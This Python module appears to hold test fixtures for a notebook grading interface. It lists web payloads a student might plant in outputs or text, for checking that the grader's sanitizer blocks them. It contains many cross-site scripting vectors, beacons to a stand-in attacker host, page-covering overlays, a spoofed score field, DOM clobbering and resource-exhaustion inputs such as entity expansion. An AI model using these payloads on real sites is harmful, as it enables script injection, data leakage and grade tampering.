"""Outputs and texts with which a student might attack the page of the person who marks.

Each entry has the MIME type and the content, by the name of the attack. `RUN` shows that a script
ran, and `CALL` that the page sent a request. An element whose text contains `COVER` must not cover
any part of the page.
"""

RUN = "alert('ran')"
CALL = "https://attacker.invalid/called"

OUTPUTS: dict[str, tuple[str, str]] = {
    "a script element": ("text/html", f"<script>{RUN}</script>"),
    "a script from elsewhere": ("text/html", f"<script src='{CALL}'></script>"),
    "a script in a comment's disguise": ("text/html", f"<!--><script>{RUN}</script>-->"),
    "a script after broken nesting": (
        "text/html",
        f'<math><mtext><table><mglyph><style><!--</style><img src=x onerror="{RUN}">',
    ),
    "a script in noscript": (
        "text/html",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    ),
    "a script in a template": (
        "text/html",
        f"<template shadowrootmode=open><script>{RUN}</script></template>",
    ),
    "an image that fails": ("text/html", f'<img src="x" onerror="{RUN}">'),
    "a video that fails": ("text/html", f'<video><source onerror="{RUN}"></video>'),
    "an element that opens": ("text/html", f'<details open ontoggle="{RUN}">text</details>'),
    "an animation's end": (
        "text/html",
        "<style>@keyframes x{}</style>"
        f'<p style="animation:x 1ms" onanimationstart="{RUN}" onanimationend="{RUN}">text</p>',
    ),
    "a focused field": ("text/html", f'<input autofocus onfocus="{RUN}">'),
    "a javascript link": ("text/html", f'<a class="click" href="javascript:{RUN}">click</a>'),
    "a javascript link with white space": (
        "text/html",
        f'<a class="click" href=" &#10;java&#9;script:{RUN}">click</a>',
    ),
    "a data link": (
        "text/html",
        f'<a class="click" href="data:text/html,<script>{RUN}</script>">click</a>',
    ),
    "a frame": ("text/html", f'<iframe src="javascript:{RUN}"></iframe>'),
    "a frame with its own document": (
        "text/html",
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    ),
    "an object": ("text/html", f'<object data="data:text/html,<script>{RUN}</script>"></object>'),
    "an embedded page": ("text/html", f'<embed src="{CALL}">'),
    "another base address": ("text/html", f'<base href="{CALL}/">'),
    "a page that moves on": (
        "text/html",
        f'<meta http-equiv="refresh" content="0;url={CALL}">',
    ),
    "a style sheet from elsewhere": ("text/html", f'<link rel="stylesheet" href="{CALL}">'),
    "an imported style sheet": ("text/html", f"<style>@import '{CALL}';</style>"),
    "a counting image": ("text/html", f'<img src="{CALL}"><img srcset="{CALL} 1x">'),
    "a background from elsewhere": (
        "text/html",
        f'<p style="background:url({CALL})">text</p>'
        f"<p style=\"background:image-set('{CALL}' 1x)\">text</p>"
        f'<p style="background:u\\72l({CALL})">text</p>',
    ),
    "a page that disappears": (
        "text/html",
        "<style>body, .panel, .score { display: none !important }</style>",
    ),
    "a cover over everything": (
        "text/html",
        '<div style="position:fixed;inset:0;z-index:99999;background:red">COVER</div>',
    ),
    "a cover by margins": (
        "text/html",
        '<div style="margin:-5000px;padding:5000px;width:9000px;height:9000px;background:red">'
        "COVER</div>",
    ),
    "a cover by a transformation": (
        "text/html",
        '<div style="transform:scale(99);background:red">COVER</div>',
    ),
    "an end of the frame": (
        "text/html",
        "</div></div></div></div></div></body></html>"
        '<div style="position:absolute;top:0;left:0;width:100%;height:100%;background:red">COVER',
    ),
    "a field for points": (
        "text/html",
        '<input class="score tabbable" id="test_node" value="1000" type="number">'
        '<textarea class="comment" id="node-comment">COVER</textarea>',
    ),
    "a form": (
        "text/html",
        f'<form action="{CALL}"><button class="click">click</button></form>',
    ),
    "names that shadow the page's own": (
        "text/html",
        '<img name="jQuery"><a id="Backbone"></a><form id="formgrade"></form>'
        '<img name="getElementById">',
    ),
    "a text that is never closed": ("text/html", "<textarea><title><plaintext>"),
    "a drawing with a script": (
        "image/svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>',
    ),
    "a drawing with a page in it": (
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body '
        f'xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject></svg>',
    ),
    "a drawing that animates a link": (
        "text/html",
        f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text>click</text>'
        "</a></svg>",
    ),
    "a drawing that calls": (
        "image/svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{CALL}"/><use href="{CALL}#x"/>'
        f"<style>@import url({CALL});</style></svg>",
    ),
    "a drawing inside HTML": ("text/html", f'<svg onload="{RUN}"><script>{RUN}</script></svg>'),
    "a drawing with a style sheet for the page": (
        "text/html",
        '<svg xmlns="http://www.w3.org/2000/svg"><style>body{display:none}</style></svg>',
    ),
    "a drawing that ends in HTML": (
        "text/html",
        f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>"></svg>',
    ),
    "a drawing that copies itself without end": (
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><rect width="9" height="9"/></g>'
        + "".join(
            f'<g id="{"a" * (i + 2)}">' + f'<use href="#{"a" * (i + 1)}"/>' * 10 + "</g>"
            for i in range(9)
        )
        + "</svg>",
    ),
    "a drawing of entities": (
        "image/svg+xml",
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    ),
    "a picture that is not one": ("image/png", f'AAAA"><script>{RUN}</script>'),
    "JavaScript": ("application/javascript", RUN),
    "JavaScript under its other name": ("text/javascript", RUN),
    "a widget": (
        "application/vnd.jupyter.widget-view+json",
        '{"model_id": "</script><script>' + RUN + '</script>", "version_major": 2}',
    ),
    "a diagram language": ("text/vnd.mermaid", f'graph TD; a-->b; click a "javascript:{RUN}"'),
    "a script in Markdown": ("text/markdown", f"text\n\n<script>{RUN}</script>\n\ntext"),
    "a formula with a link": ("text/latex", f"$\\href{{javascript:{RUN}}}{{x}}$"),
    "a formula that ends": ("text/latex", f"$x$</div><script>{RUN}</script>"),
    "a terminal colour that ends": ("text/plain", f"\x1b[31m</pre><script>{RUN}</script>"),
    "HTML nested without end": ("text/html", "<div>" * 100_000),
}

WRITTEN: dict[str, str] = {
    "a script": f"text <script>{RUN}</script>",
    "a failing image": f'text <img src="x" onerror="{RUN}">',
    "a javascript link": f"[click](javascript:{RUN}) <a href='javascript:{RUN}'>click</a>",
    "a hidden javascript link": f"[click](java\tscript:{RUN}) [click](&#106;avascript:{RUN})",
    "a counting image": f"![pixel]({CALL})",
    "an image that is a script": f'![x]("onerror="{RUN})',
    "a code block whose language is HTML": f'```"><script>{RUN}</script>\ncode\n```',
    "a heading that is HTML": f"# <img src=x onerror={RUN}>",
    "a frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "a style sheet": "<style>body{display:none}</style>",
    "a cover": '<div style="position:fixed;inset:0;background:red">COVER</div>',
    "a cover by margins": (
        '<div style="margin-top:-900px;height:800px">'
        '<div style="display:inline-block;height:800px;width:100%;background:red">COVER</div></div>'
    ),
    "a cover by margins that are computed": (
        '<div style="MARGIN : calc(0px - 900px) 0 0;height:800px;background:red">COVER</div>'
    ),
    "a formula": f"$\\href{{javascript:{RUN}}}{{x}}$ $<img src=x onerror={RUN}>$",
    "an attachment that is HTML": "![x](attachment:x.html)",
    "brackets without end": "[" * 50_000,
    "quotes nested without end": "> " * 5_000 + "text",
}

HONEST: dict[str, tuple[str, str]] = {
    "a table as pandas writes it": (
        "text/html",
        '<div><table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>'
        "<th>loss</th></tr></thead><tbody><tr><th>0</th><td>0.2517</td></tr></tbody></table></div>",
    ),
    "colours": ("text/html", '<p style="color:#1a7f4b;background:#fff">green text</p>'),
    "Markdown": ("text/markdown", "**bold** and `code`\n\n```python\nx = 1\n```"),
    "a formula": ("text/latex", "$\\frac{1}{2}$"),
}
